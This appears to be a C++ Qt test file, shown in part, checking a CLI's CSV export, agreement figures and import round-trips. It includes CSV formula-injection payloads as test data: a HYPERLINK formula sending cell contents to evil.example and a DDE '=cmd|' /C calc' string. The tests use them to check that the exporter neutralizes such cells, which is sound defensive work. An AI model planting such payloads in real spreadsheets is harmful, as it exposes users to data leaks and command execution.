// SPDX-License-Identifier: GPL-3.0-or-later
// concord-cli export on a real project made from the study's sample dump: the study
// layout has the published files' shapes, formula cells are neutralized and read back,
// the long layout gives the project's agreement figures, and importing an export into a
// new project gives the same raters, findings, reconciled findings and figures.
#include "../common/clirun.h"

#include "export/csvwriter.h"
#include "import/csvreader.h"
#include "import/importer.h"
#include "store/project.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTemporaryDir>
#include <QTimeZone>
#include <QTest>

#include <cmath>

using namespace Concord;
using namespace Concord::CliTest;
using namespace Qt::StringLiterals;

namespace {

const QString s_dump = QStringLiteral(CONCORD_CORPUS_DIR "/ponder-fixture-sample.json");
const QString s_labels = QStringLiteral(CONCORD_CORPUS_DIR "/labels/");
const QString s_issues = QStringLiteral(CONCORD_CORPUS_DIR "/bugreports/issues.json");
const QStringList s_patches{QStringLiteral(CONCORD_CORPUS_DIR "/patches/AndPotap__igr/32cc7eb43008dd4b789b917742bc8408575d2e3a.patch"),
                            QStringLiteral(CONCORD_CORPUS_DIR "/patches/AndPotap__igr/6b0f04f4b9533cda44f48ab39f1e74b3d11edcf1.patch"),
                            QStringLiteral(CONCORD_CORPUS_DIR "/patches/GPflow__GPflow/002b217f983e55811faabf2e548e7c4e66ff09c6.patch"),
                            QStringLiteral(CONCORD_CORPUS_DIR "/patches/GPflow__GPflow/12243a6a2a325f823704be7c72c83e222dd3b53b.patch")};

QList<QStringList> readRecords(const QString &path, bool restore = true)
{
    QList<QStringList> records;
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly)) {
        return records;
    }
    CsvReader reader(&file);
    reader.setRestoreNeutralizedCells(restore);
    QStringList fields;
    while (reader.readRecord(&fields)) {
        records.append(fields);
    }
    if (reader.hasError()) {
        qWarning() << path << reader.errorString();
        return {};
    }
    return records;
}

QByteArray readBytes(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

/// A finding (or reconciled finding) by what a user sees: names, not row ids.
QString describe(const Codebook &codebook, const DimensionValues &values, const DimensionComments &comments)
{
    QStringList parts;
    for (const Dimension &d : codebook.dimensions) {
        QStringList names;
        for (ValueId id : values.value(d.id)) {
            for (const CodebookValue &v : codebook.values) {
                if (v.id == id) {
                    names << v.name;
                }
            }
        }
        names.sort();
        parts << d.key + u'=' + names.join(u'|') + u" /" + comments.value(d.id);
    }
    return parts.join(u"; "_s);
}

QMap<QString, QString> findingsByUuid(const Project &project)
{
    QMap<QString, QString> out;
    const Codebook codebook = project.codebook();
    for (const Finding &f : project.findings()) {
        const auto item = project.item(f.item);
        const auto rater = project.rater(f.rater);
        out.insert(f.uuid.toString(),
                   u"%1 %2 (%3) #%4 discuss=%5 unsure=%6 %7"_s.arg(item ? item->key.toString() : QString(),
                                                                   rater ? rater->name : QString(),
                                                                   rater ? rater->initials : QString())
                       .arg(f.ordinal)
                       .arg(f.shouldDiscuss)
                       .arg(f.unsure)
                       .arg(describe(codebook, f.values, f.comments)));
    }
    return out;
}

QMap<QString, QString> reconciledByUuid(const Project &project)
{
    QMap<QString, QString> out;
    const Codebook codebook = project.codebook();
    for (const ReconciledFinding &r : project.reconciledFindings()) {
        const auto item = project.item(r.item);
        QStringList sources;
        for (const QUuid &u : r.sourceFindings) {
            sources << u.toString();
        }
        sources.sort();
        const auto by = r.decidedBy ? project.rater(r.decidedBy) : std::nullopt;
        out.insert(r.uuid.toString(), u"%1 #%2 discuss=%3 decision=%4 by=%5 rationale=%6 sources=%7 %8 at %9"_s
                                          .arg(item ? item->key.toString() : QString())
                                          .arg(r.ordinal)
                                          .arg(r.shouldDiscuss)
                                          .arg(int(r.decision))
                                          .arg(by ? by->name : QString(), r.rationale, sources.join(u','),
                                               describe(codebook, r.values, r.comments),
                                               r.decidedAt.toString(Qt::ISODateWithMs)));
    }
    return out;
}

/// Equal JSON, numbers within rounding: the file lists categories in the order they
/// first appear, the project in codebook order, so sums run in another order.
bool sameFigures(const QJsonValue &a, const QJsonValue &b, QString *where)
{
    if (a.isDouble() && b.isDouble()) {
        const double x = a.toDouble();
        const double y = b.toDouble();
        if (std::abs(x - y) <= 1e-12 * std::max(1.0, std::abs(x))) {
            return true;
        }
        *where = u"%1 != %2"_s.arg(x, 0, 'g', 17).arg(y, 0, 'g', 17);
        return false;
    }
    if (a.isObject() && b.isObject()) {
        const QJsonObject oa = a.toObject();
        const QJsonObject ob = b.toObject();
        if (oa.keys() != ob.keys()) {
            *where = u"keys %1 != %2"_s.arg(oa.keys().join(u','), ob.keys().join(u','));
            return false;
        }
        for (auto it = oa.begin(); it != oa.end(); ++it) {
            if (!sameFigures(it.value(), ob.value(it.key()), where)) {
                *where = it.key() + u": "_s + *where;
                return false;
            }
        }
        return true;
    }
    if (a.isArray() && b.isArray()) {
        const QJsonArray xa = a.toArray();
        const QJsonArray xb = b.toArray();
        if (xa.size() != xb.size()) {
            *where = u"sizes differ"_s;
            return false;
        }
        for (qsizetype i = 0; i < xa.size(); ++i) {
            if (!sameFigures(xa.at(i), xb.at(i), where)) {
                *where = u"[%1] "_s.arg(i) + *where;
                return false;
            }
        }
        return true;
    }
    if (a != b) {
        *where = u"values differ"_s;
        return false;
    }
    return true;
}

QJsonObject json(const Run &run)
{
    return QJsonDocument::fromJson(run.out).object();
}

} // namespace

class TestProjectExport : public QObject
{
    Q_OBJECT
    QTemporaryDir m_dir;
    QString m_path;
    std::unique_ptr<Project> m_project;
    QHash<QString, QString> m_formulaComments; ///< finding uuid → category comment set by the test

    QString exportTo(const QString &name, const QString &layout)
    {
        const QString dir = m_dir.filePath(name);
        const Run r = cli({u"export"_s, m_path, u"--out"_s, dir, u"--layout"_s, layout, u"--json"_s});
        if (r.exitCode != 0) {
            qWarning() << r.err;
            return {};
        }
        return dir;
    }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        m_path = m_dir.filePath(u"sample.concord"_s);
        QString error;
        auto project = Project::create(m_path, &error);
        QVERIFY2(project, qPrintable(error));
        ImportRequest request;
        request.files = {s_dump};
        ImportResult result;
        QVERIFY2(importFiles(*project, request, &result, &error), qPrintable(error));
        QVERIFY(project->counts().findings > 100);
        QVERIFY(project->counts().reconciled > 50);
        // Comments a spreadsheet would run as formulas, and ones that only look like our escape.
        const QStringList formulas{u"=HYPERLINK(\"http://evil.example/?\"&A1,\"see the PR\")"_s,
                                   u"+1"_s,
                                   u"-x"_s,
                                   u"@SUM(A1:A9)"_s,
                                   u"\tleading tab"_s,
                                   u"\rleading carriage return"_s,
                                   u"'already quoted"_s,
                                   u"''=two quotes"_s,
                                   u"line one\nline two, with \"quotes\""_s};
        const DimensionId category = project->codebook().dimensionByKey(u"category"_s)->id;
        const QList<Finding> findings = project->findings();
        for (int i = 0; i < formulas.size(); ++i) {
            const Finding &f = findings.at(i * 7);
            QVERIFY2(project->setFindingComment(f.id, category, formulas.at(i), &error), qPrintable(error));
            m_formulaComments.insert(f.uuid.toString(QUuid::WithoutBraces), formulas.at(i));
        }
        project.reset();
        m_project = Project::open(m_path, Project::ReadOnly, &error);
        QVERIFY2(m_project, qPrintable(error));
    }

    // The codebook files have the published shape: header "category","description",
    // every field quoted, quotes doubled, and the study's values.
    void studyLayoutShapes()
    {
        const QString dir = m_dir.filePath(u"study"_s);
        const Run r = cli({u"export"_s, m_path, u"--out"_s, dir, u"--json"_s});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QHash<QString, qint64> rows;
        for (const QJsonValue &f : json(r).value(u"files"_s).toArray()) {
            rows.insert(f[u"name"].toString(), f[u"rows"].toInteger());
        }
        const QStringList expected{u"problem_categories.csv"_s, u"problem_causes.csv"_s, u"problem_symptoms.csv"_s,
                                   u"problem_fixes.csv"_s,      u"dimensions.csv"_s,      u"raters.csv"_s,
                                   u"categorizations.csv"_s,    u"reconciled.csv"_s,      u"items.csv"_s,
                                   u"codebook.md"_s,            u"decision_log.md"_s};
        QStringList names = rows.keys();
        names.sort();
        QStringList sortedExpected = expected;
        sortedExpected.sort();
        QCOMPARE(names, sortedExpected);

        // The study's taxonomy, per dimension (the corpus's taxonomy.csv lists the same values).
        QMap<QString, QStringList> taxonomy;
        const QList<QStringList> corpusTaxonomy = readRecords(s_labels + u"taxonomy.csv"_s);
        for (const QStringList &row : corpusTaxonomy.mid(1)) {
            taxonomy[row.at(0)].append(row.at(2));
        }
        const Codebook codebook = m_project->codebook();
        const QList<QPair<QString, QString>> files{{u"category"_s, u"problem_categories.csv"_s},
                                                   {u"cause"_s, u"problem_causes.csv"_s},
                                                   {u"symptom"_s, u"problem_symptoms.csv"_s},
                                                   {u"fix"_s, u"problem_fixes.csv"_s}};
        for (const auto &[key, file] : files) {
            const QByteArray bytes = readBytes(dir + u'/' + file);
            const QByteArray header = QByteArray("\"") + key.toUtf8() + QByteArray("\",\"description\"\r\n");
            QVERIFY2(bytes.startsWith(header), bytes.left(40).constData());
            const QList<QStringList> records = readRecords(dir + u'/' + file);
            QCOMPARE(records.size() - 1, qsizetype(rows.value(file)));
            // Rebuilt independently: every field quoted, inner quotes doubled, CRLF.
            QByteArray rebuilt;
            for (const QStringList &record : records) {
                QStringList quoted;
                for (QString field : record) {
                    quoted << u'"' + field.replace(u'"', u"\"\""_s) + u'"';
                }
                rebuilt += (quoted.join(u',') + u"\r\n"_s).toUtf8();
            }
            QCOMPARE(bytes, rebuilt);
            QStringList got;
            const DimensionId dim = codebook.dimensionByKey(key)->id;
            for (const QStringList &record : records.mid(1)) {
                QCOMPARE(record.size(), 2);
                got << record.at(0);
                QCOMPARE(record.at(1), codebook.valueByName(dim, record.at(0))->description);
            }
            got.sort();
            QStringList want = taxonomy.value(key);
            want.sort();
            QCOMPARE(got, want);
        }

        // The label files start with the columns of the study's spreadsheets.
        const QStringList categorizations = readRecords(dir + u"/categorizations.csv"_s).value(0);
        const QStringList corpusCategorizations = readRecords(s_labels + u"categorizations.csv"_s).value(0);
        QCOMPARE(categorizations.mid(0, corpusCategorizations.size()), corpusCategorizations);
        const QStringList reconciled = readRecords(dir + u"/reconciled.csv"_s).value(0);
        const QStringList corpusReconciled = readRecords(s_labels + u"reconciled.csv"_s).value(0);
        QCOMPARE(reconciled.mid(0, corpusReconciled.size()), corpusReconciled);
        const QStringList items = readRecords(dir + u"/items.csv"_s).value(0);
        QCOMPARE(items.mid(0, 6), readRecords(s_labels + u"commits.csv"_s).value(0).mid(0, 6));

        const ProjectCounts counts = m_project->counts();
        QCOMPARE(rows.value(u"categorizations.csv"_s), counts.findings);
        QCOMPARE(readRecords(dir + u"/categorizations.csv"_s).size() - 1, qsizetype(counts.findings));
        QCOMPARE(rows.value(u"reconciled.csv"_s), counts.reconciled);
        QCOMPARE(readRecords(dir + u"/reconciled.csv"_s).size() - 1, qsizetype(counts.reconciled));
        QCOMPARE(rows.value(u"items.csv"_s), counts.items);
        QCOMPARE(rows.value(u"raters.csv"_s), counts.raters); // every rater, with role

        // The gate as the study wrote it, true/false.
        const int gate = categorizations.indexOf(u"is_func_fix"_s);
        for (const QStringList &row : readRecords(dir + u"/categorizations.csv"_s).mid(1)) {
            QVERIFY2(row.at(gate) == u"true" || row.at(gate) == u"false" || row.at(gate).isEmpty(), qPrintable(row.at(gate)));
        }
        // Markdown codebook: a row per value with its count.
        const QString markdown = QString::fromUtf8(readBytes(dir + u"/codebook.md"_s));
        QVERIFY(markdown.contains(u"| Value | Description | Findings | Reconciled |"_s));
        QCOMPARE(rows.value(u"codebook.md"_s), qint64(codebook.values.size()));
        QCOMPARE(rows.value(u"decision_log.md"_s), counts.reconciled);
    }

    // Formula cells are neutralized in the file and read back as they were.
    void formulaCells()
    {
        const QString dir = m_dir.filePath(u"study"_s);
        const QString path = dir + u"/categorizations.csv"_s;
        QVERIFY(readBytes(path).contains("'=HYPERLINK("));
        const QList<QStringList> raw = readRecords(path, false);
        QVERIFY(raw.size() > 1);
        for (const QStringList &row : raw) {
            for (const QString &cell : row) {
                QVERIFY2(cell.isEmpty()
                             || !(cell.front() == u'=' || cell.front() == u'+' || cell.front() == u'-'
                                  || cell.front() == u'@' || cell.front() == u'\t' || cell.front() == u'\r'),
                         qPrintable(cell));
            }
        }
        const QList<QStringList> records = readRecords(path);
        const int uuid = records.first().indexOf(u"uuid"_s);
        const int comment = records.first().indexOf(u"category_comment"_s);
        const int created = records.first().indexOf(u"created"_s);
        const int modified = records.first().indexOf(u"modified"_s);
        QVERIFY(uuid > 0 && comment > 0 && created > 0 && modified > 0);
        QHash<QString, QPair<QString, QString>> times;
        for (const Finding &f : m_project->findings()) {
            times.insert(f.uuid.toString(QUuid::WithoutBraces),
                         {f.created.toUTC().toString(Qt::ISODateWithMs), f.modified.toUTC().toString(Qt::ISODateWithMs)});
        }
        int seen = 0;
        for (const QStringList &row : records.mid(1)) {
            QCOMPARE(row.at(created), times.value(row.at(uuid)).first);
            QCOMPARE(row.at(modified), times.value(row.at(uuid)).second);
            if (m_formulaComments.contains(row.at(uuid))) {
                QCOMPARE(row.at(comment), m_formulaComments.value(row.at(uuid)));
                ++seen;
            }
        }
        QCOMPARE(seen, m_formulaComments.size());
    }

    // Existing files are kept unless --force; errors name the file.
    void refusesToOverwrite()
    {
        const QString dir = m_dir.filePath(u"study"_s);
        const QByteArray before = readBytes(dir + u"/categorizations.csv"_s);
        QFile marker(dir + u"/problem_categories.csv"_s);
        QVERIFY(marker.open(QIODevice::WriteOnly));
        marker.write("mine\n");
        marker.close();
        const Run refused = cli({u"export"_s, m_path, u"--out"_s, dir});
        QCOMPARE(refused.exitCode, 2);
        QVERIFY2(refused.err.contains(u"problem_categories.csv"_s) && refused.err.contains(u"exists"_s), qPrintable(refused.err));
        QCOMPARE(readBytes(dir + u"/problem_categories.csv"_s), QByteArray("mine\n"));
        const Run forced = cli({u"export"_s, m_path, u"--out"_s, dir, u"--force"_s});
        QVERIFY2(forced.exitCode == 0, qPrintable(forced.err));
        QVERIFY(readBytes(dir + u"/problem_categories.csv"_s).startsWith("\"category\",\"description\""));
        QCOMPARE(readBytes(dir + u"/categorizations.csv"_s), before);
        QVERIFY(QDir(dir).entryList({u"*.csv.*"_s, u"*~"_s}, QDir::Files | QDir::Hidden).isEmpty()); // no leftovers

        // A directory that cannot be made: a file stands in its way.
        const Run blocked = cli({u"export"_s, m_path, u"--out"_s, dir + u"/items.csv"_s});
        QCOMPARE(blocked.exitCode, 2);
        QVERIFY2(blocked.err.contains(u"items.csv"_s), qPrintable(blocked.err));
        const Run badLayout = cli({u"export"_s, m_path, u"--out"_s, dir, u"--layout"_s, u"tall"_s});
        QCOMPARE(badLayout.exitCode, 1);
    }

    // A dimension that is not the study's gets DIMENSION.csv with the same shape, and
    // one that would take another file's name does not overwrite it.
    void otherDimensions()
    {
        QString error;
        const QString path = m_dir.filePath(u"other.concord"_s);
        {
            auto project = Project::create(path, &error);
            QVERIFY2(project, qPrintable(error));
            for (const QString &key : {u"severity"_s, u"items"_s}) {
                Dimension dim;
                dim.key = key;
                dim.name = key;
                dim.kind = Dimension::Kind::SingleChoice;
                const auto id = project->addDimension(dim, &error);
                QVERIFY2(id, qPrintable(error));
                CodebookValue value;
                value.dimension = *id;
                value.name = u"=cmd|' /C calc'!A0"_s;
                value.description = u"Said \"high\", twice"_s;
                QVERIFY2(project->addValue(value, &error), qPrintable(error));
            }
        }
        const QString dir = m_dir.filePath(u"other"_s);
        const Run r = cli({u"export"_s, path, u"--out"_s, dir, u"--json"_s});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QCOMPARE(readBytes(dir + u"/severity.csv"_s),
                 QByteArray("\"severity\",\"description\"\r\n\"'=cmd|' /C calc'!A0\",\"Said \"\"high\"\", twice\"\r\n"));
        QCOMPARE(readRecords(dir + u"/severity.csv"_s).value(1), (QStringList{u"=cmd|' /C calc'!A0"_s, u"Said \"high\", twice"_s}));
        QCOMPARE(readRecords(dir + u"/codebook_items.csv"_s).value(0), (QStringList{u"items"_s, u"description"_s}));
        QCOMPARE(readRecords(dir + u"/items.csv"_s).value(0).value(0), u"project"_s); // the item list is intact
        QCOMPARE(readRecords(dir + u"/categorizations.csv"_s).size(), 1); // a header, no findings
    }

    // agreement --ratings on the long layout gives the project's own figures.
    void longLayoutAgreement()
    {
        const QString dir = exportTo(u"long"_s, u"long"_s);
        QVERIFY(!dir.isEmpty());
        const QString file = dir + u"/ratings_long.csv"_s;
        QCOMPARE(readRecords(file).value(0), (QStringList{u"item"_s, u"rater"_s, u"dimension"_s, u"value"_s}));
        // Without --dimension the file's several dimensions are refused, not mixed.
        const Run mixed = cli({u"agreement"_s, u"--ratings"_s, file});
        QCOMPARE(mixed.exitCode, 2);
        QVERIFY2(mixed.err.contains(u"--dimension"_s), qPrintable(mixed.err));
        int defined = 0;
        for (const Dimension &d : m_project->codebook().dimensions) {
            const Run fromProject = cli({u"agreement"_s, m_path, u"--dimension"_s, d.key, u"--json"_s, u"--bootstrap"_s, u"0"_s});
            const Run fromFile = cli({u"agreement"_s, u"--ratings"_s, file, u"--dimension"_s, d.key, u"--json"_s,
                                      u"--bootstrap"_s, u"0"_s});
            QVERIFY2(fromProject.exitCode == 0, qPrintable(fromProject.err));
            QVERIFY2(fromFile.exitCode == 0, qPrintable(fromFile.err));
            const QJsonObject a = json(fromProject);
            const QJsonObject b = json(fromFile);
            QCOMPARE(b.value(u"n_units"_s), a.value(u"n_units"_s));
            QCOMPARE(b.value(u"raters"_s), a.value(u"raters"_s));
            QString where;
            QVERIFY2(sameFigures(b.value(u"pairs"_s), a.value(u"pairs"_s), &where), qPrintable(d.key + u": pairs: "_s + where));
            const QJsonObject sa = a.value(u"statistics"_s).toObject();
            const QJsonObject sb = b.value(u"statistics"_s).toObject();
            // Gwet's AC1 and Brennan-Prediger count the codebook's unused values as
            // possible categories in the project; a ratings file only knows used ones.
            for (const QString &name : {u"percent_agreement"_s, u"cohen_kappa"_s, u"scott_pi"_s, u"fleiss_kappa"_s,
                                        u"krippendorff_alpha"_s}) {
                QVERIFY2(sameFigures(sb.value(name), sa.value(name), &where), qPrintable(d.key + u": "_s + name + u": "_s + where));
            }
            defined += sa.value(u"krippendorff_alpha"_s)[u"value"].isDouble();
        }
        QVERIFY(defined >= 4);
    }

    // The wide layout: a row per unit, a column per rater per dimension and the reconciled value.
    void wideLayout()
    {
        const QString dir = exportTo(u"wide"_s, u"wide"_s);
        QVERIFY(!dir.isEmpty());
        const QList<QStringList> records = readRecords(dir + u"/ratings_wide.csv"_s);
        QVERIFY(records.size() > 1);
        const QStringList header = records.first();
        QVERIFY(header.contains(u"category.reconciled"_s));
        QVERIFY(header.contains(u"category.R1"_s));
        const int reconciledColumn = header.indexOf(u"category.reconciled"_s);
        qint64 withReconciled = 0;
        for (const QStringList &row : records.mid(1)) {
            QCOMPARE(row.size(), header.size());
            withReconciled += !row.at(reconciledColumn).isEmpty();
        }
        qint64 reconciledWithCategory = 0;
        const DimensionId category = m_project->codebook().dimensionByKey(u"category"_s)->id;
        for (const ReconciledFinding &r : m_project->reconciledFindings()) {
            reconciledWithCategory += !r.values.value(category).isEmpty();
        }
        QCOMPARE(withReconciled, reconciledWithCategory);
    }

    // Importing the study layout into a new project gives the same labels and figures.
    void roundTrip()
    {
        const QString dir = m_dir.filePath(u"study"_s);
        const QString copy = m_dir.filePath(u"roundtrip.concord"_s);
        QString error;
        {
            auto project = Project::create(copy, &error);
            QVERIFY2(project, qPrintable(error));
            ImportRequest request;
            for (const QString &name : {u"items.csv"_s, u"problem_categories.csv"_s, u"problem_causes.csv"_s,
                                        u"problem_symptoms.csv"_s, u"problem_fixes.csv"_s, u"categorizations.csv"_s,
                                        u"reconciled.csv"_s}) {
                request.files << dir + u'/' + name;
            }
            ImportResult result;
            QVERIFY2(importFiles(*project, request, &result, &error), qPrintable(error));
        }
        auto project = Project::open(copy, Project::ReadOnly, &error);
        QVERIFY2(project, qPrintable(error));
        QCOMPARE(project->counts().items, m_project->counts().items);
        QCOMPARE(project->counts().findings, m_project->counts().findings);
        QCOMPARE(project->counts().reconciled, m_project->counts().reconciled);

        auto raterSet = [](const Project &p) {
            QSet<QString> raters;
            QSet<RaterId> active;
            for (const Finding &f : p.findings()) {
                active.insert(f.rater);
            }
            for (const Rater &r : p.raters()) {
                if (active.contains(r.id)) {
                    raters.insert(r.name + u" / "_s + r.initials);
                }
            }
            return raters;
        };
        QCOMPARE(raterSet(*project), raterSet(*m_project));
        const auto findingsBefore = findingsByUuid(*m_project);
        const auto findingsAfter = findingsByUuid(*project);
        QCOMPARE(findingsAfter.size(), findingsBefore.size());
        for (auto it = findingsBefore.cbegin(); it != findingsBefore.cend(); ++it) {
            QCOMPARE(findingsAfter.value(it.key()), it.value());
        }
        const auto reconciledBefore = reconciledByUuid(*m_project);
        const auto reconciledAfter = reconciledByUuid(*project);
        QCOMPARE(reconciledAfter.size(), reconciledBefore.size());
        for (auto it = reconciledBefore.cbegin(); it != reconciledBefore.cend(); ++it) {
            QCOMPARE(reconciledAfter.value(it.key()), it.value());
        }

        const Run before = cli({u"agreement"_s, m_path, u"--json"_s, u"--bootstrap"_s, u"0"_s});
        const Run after = cli({u"agreement"_s, copy, u"--json"_s, u"--bootstrap"_s, u"0"_s});
        QVERIFY2(before.exitCode == 0 && after.exitCode == 0, qPrintable(before.err + after.err));
        const QJsonArray a = json(before).value(u"dimensions"_s).toArray();
        const QJsonArray b = json(after).value(u"dimensions"_s).toArray();
        QCOMPARE(a.size(), 5);
        QCOMPARE(b, a);
        const Run decisionsBefore = cli({u"agreement"_s, m_path, u"--decisions"_s, u"--json"_s});
        const Run decisionsAfter = cli({u"agreement"_s, copy, u"--decisions"_s, u"--json"_s});
        QCOMPARE(json(decisionsAfter).value(u"dimensions"_s), json(decisionsBefore).value(u"dimensions"_s));
    }

    // A project with commits (real patches) and bug reports (real GitHub issues), a
    // dimension beyond the study's (ordered) and a multiple-choice one, a reconciler and
    // reconciled findings of every decision type: `concord-cli export`, then
    // `concord-cli import NEW SOURCES` and `concord-cli import NEW DIR/*.csv` give the
    // same raters with roles, codebook, findings, reconciled findings and figures.
    void roundTripBugReportsDimensionsRoles()
    {
        const QString source = m_dir.filePath(u"mixed.concord"_s);
        const Run imported = cli(QStringList{u"import"_s, source, s_labels + u"taxonomy.csv"_s, s_issues} + s_patches);
        QVERIFY2(imported.exitCode == 0, qPrintable(imported.err));
        QString error;
        {
            auto project = Project::open(source, Project::ReadWrite, &error);
            QVERIFY2(project, qPrintable(error));
            const Codebook before = project->codebook();
            int order = 0;
            for (const Dimension &d : before.dimensions) {
                order = std::max(order, d.order + 1);
            }
            Dimension severity;
            severity.key = u"severity"_s;
            severity.name = u"Severity"_s;
            severity.description = u"How much the problem hurts its users."_s;
            severity.ordered = true;
            severity.order = order;
            const auto severityId = project->addDimension(severity, &error);
            QVERIFY2(severityId, qPrintable(error));
            Dimension affected;
            affected.key = u"affected"_s;
            affected.name = u"Affected parts"_s;
            affected.kind = Dimension::Kind::MultipleChoice;
            affected.order = order + 1;
            const auto affectedId = project->addDimension(affected, &error);
            QVERIFY2(affectedId, qPrintable(error));
            QHash<QString, ValueId> value;
            auto addValue = [&](DimensionId dim, const QString &name, const QString &description) {
                CodebookValue v;
                v.dimension = dim;
                v.name = name;
                v.description = description;
                const auto id = project->addValue(v, &error);
                value.insert(name, id.value_or(0));
                return id.has_value();
            };
            QVERIFY2(addValue(*severityId, u"low"_s, u"A warning, nothing breaks."_s), qPrintable(error));
            QVERIFY2(addValue(*severityId, u"medium"_s, u"Slow, \"retracing\" every call."_s), qPrintable(error));
            QVERIFY2(addValue(*severityId, u"high"_s, u"=Wrong results, or a crash"_s), qPrintable(error));
            QVERIFY2(addValue(*affectedId, u"api"_s, u"The public API."_s), qPrintable(error));
            QVERIFY2(addValue(*affectedId, u"docs"_s, QString()), qPrintable(error));
            QVERIFY2(addValue(*affectedId, u"tests"_s, u"Test code; a;semicolon"_s), qPrintable(error));

            const Codebook codebook = project->codebook();
            auto dim = [&](const QString &key) { return codebook.dimensionByKey(key)->id; };
            auto valueOf = [&](const QString &key, const QString &name) {
                const CodebookValue *v = codebook.valueByName(dim(key), name);
                return v ? v->id : ValueId(0);
            };
            Rater ada{0, {}, u"Ada Lovelace"_s, u"AL"_s, u"ada"_s, Rater::Role::Rater};
            Rater bob{0, {}, u"Bob Builder"_s, QString(), QString(), Rater::Role::Rater};
            Rater carol{0, {}, u"Carol Chair"_s, u"CC"_s, QString(), Rater::Role::Reconciler};
            const auto adaId = project->addRater(ada, &error);
            const auto bobId = project->addRater(bob, &error);
            const auto carolId = project->addRater(carol, &error);
            QVERIFY2(adaId && bobId && carolId, qPrintable(error));

            const std::optional<Item> commitA = project->itemByKey(ItemKey::commit(u"AndPotap/igr"_s, u"32cc7eb43008dd4b789b917742bc8408575d2e3a"_s));
            const std::optional<Item> commitB = project->itemByKey(ItemKey::commit(u"GPflow/GPflow"_s, u"002b217f983e55811faabf2e548e7c4e66ff09c6"_s));
            const std::optional<Item> issueA = project->itemByKey(ItemKey::issue(u"theislab/scCODA"_s, 13));
            const std::optional<Item> issueB = project->itemByKey(ItemKey::issue(u"keiohta/tf2rl"_s, 99));
            QVERIFY(commitA && commitB && issueA && issueB);

            auto finding = [&](const Item &item, RaterId rater, const QString &category, const QString &sev,
                               const QStringList &parts, const QString &comment, bool discuss, bool unsure) {
                Finding f;
                f.item = item.id;
                f.rater = rater;
                f.ordinal = -1;
                f.values.insert(dim(u"is_func_fix"_s), {valueOf(u"is_func_fix"_s, u"Yes"_s)});
                f.values.insert(dim(u"category"_s), {valueOf(u"category"_s, category)});
                if (!sev.isEmpty()) {
                    f.values.insert(dim(u"severity"_s), {valueOf(u"severity"_s, sev)});
                }
                QList<ValueId> ids;
                for (const QString &p : parts) {
                    ids << valueOf(u"affected"_s, p);
                }
                if (!ids.isEmpty()) {
                    f.values.insert(dim(u"affected"_s), ids);
                }
                f.comments.insert(dim(u"severity"_s), comment);
                f.comments.insert(dim(u"category"_s), u"see "_s + item.key.toString());
                f.shouldDiscuss = discuss;
                f.unsure = unsure;
                f.uuid = QUuid::createUuid();
                return project->addFinding(f, &error) ? f.uuid : QUuid();
            };
            QList<QUuid> uuids;
            uuids << finding(*commitA, *adaId, u"Performance"_s, u"medium"_s, {u"api"_s}, u"=slow"_s, false, false);
            uuids << finding(*commitA, *bobId, u"Performance"_s, u"medium"_s, {u"api"_s}, u"same"_s, false, false);
            uuids << finding(*commitB, *adaId, u"API Misuse"_s, u"high"_s, {u"api"_s, u"tests"_s}, u"crash, see log"_s, true, false);
            uuids << finding(*commitB, *bobId, u"API Misuse"_s, u"low"_s, {u"docs"_s}, u""_s, false, true);
            uuids << finding(*issueA, *adaId, u"Performance"_s, u"low"_s, {}, u"retracing warning"_s, false, false);
            uuids << finding(*issueA, *bobId, u"Performance"_s, u"medium"_s, {u"docs"_s}, u"+1 from the thread"_s, false, false);
            uuids << finding(*issueA, *bobId, u"Other"_s, QString(), {u"tests"_s}, u"a second problem"_s, true, true);
            uuids << finding(*issueB, *adaId, u"Performance"_s, u"high"_s, {u"api"_s}, u""_s, false, false);
            for (const QUuid &u : std::as_const(uuids)) {
                QVERIFY(!u.isNull());
            }
            QCOMPARE(project->findings().size(), 8);

            auto reconcile = [&](const Item &item, const QList<QUuid> &sources, ReconciledFinding::Decision decision,
                                 const QString &category, const QString &sev, const QString &rationale) {
                ReconciledFinding r;
                r.item = item.id;
                const QList<ReconciledFinding> have = project->reconciledFindings();
                r.ordinal = int(std::count_if(have.cbegin(), have.cend(), [&](const ReconciledFinding &x) { return x.item == item.id; }));
                r.values.insert(dim(u"is_func_fix"_s), {valueOf(u"is_func_fix"_s, u"Yes"_s)});
                r.values.insert(dim(u"category"_s), {valueOf(u"category"_s, category)});
                r.values.insert(dim(u"severity"_s), {valueOf(u"severity"_s, sev)});
                r.values.insert(dim(u"affected"_s), {valueOf(u"affected"_s, u"api"_s), valueOf(u"affected"_s, u"docs"_s)});
                r.comments.insert(dim(u"severity"_s), u"agreed in the meeting"_s);
                r.shouldDiscuss = decision == ReconciledFinding::Decision::New;
                r.sourceFindings = sources;
                r.decision = decision;
                r.rationale = rationale;
                r.decidedBy = *carolId;
                r.decidedAt = QDateTime(QDate(2026, 11, 30), QTime(14, 5, 6, 789), QTimeZone::UTC);
                return project->addReconciled(r, &error).has_value();
            };
            QVERIFY2(reconcile(*commitA, {uuids[0], uuids[1]}, ReconciledFinding::Decision::Unanimous, u"Performance"_s, u"medium"_s,
                               u"Both said so."_s),
                     qPrintable(error));
            QVERIFY2(reconcile(*commitB, {uuids[2], uuids[3]}, ReconciledFinding::Decision::Combined, u"API Misuse"_s, u"high"_s,
                               u"Ada's severity, Bob's docs; \"crash\" wins."_s),
                     qPrintable(error));
            QVERIFY2(reconcile(*issueA, {uuids[4], uuids[5]}, ReconciledFinding::Decision::AdoptedOne, u"Performance"_s, u"medium"_s,
                               u"=Bob read the whole thread"_s),
                     qPrintable(error));
            QVERIFY2(reconcile(*issueA, {uuids[6]}, ReconciledFinding::Decision::New, u"Test"_s, u"low"_s,
                               u"Neither: a test problem.\nSecond line."_s),
                     qPrintable(error));
            QCOMPARE(project->reconciledFindings().size(), 4);
        }

        const QString dir = m_dir.filePath(u"mixed-export"_s);
        const Run exported = cli({u"export"_s, source, u"--out"_s, dir});
        QVERIFY2(exported.exitCode == 0, qPrintable(exported.err));
        // The study's codebook files keep the published shape next to the new files.
        QCOMPARE(readRecords(dir + u"/problem_categories.csv"_s).value(0), (QStringList{u"category"_s, u"description"_s}));
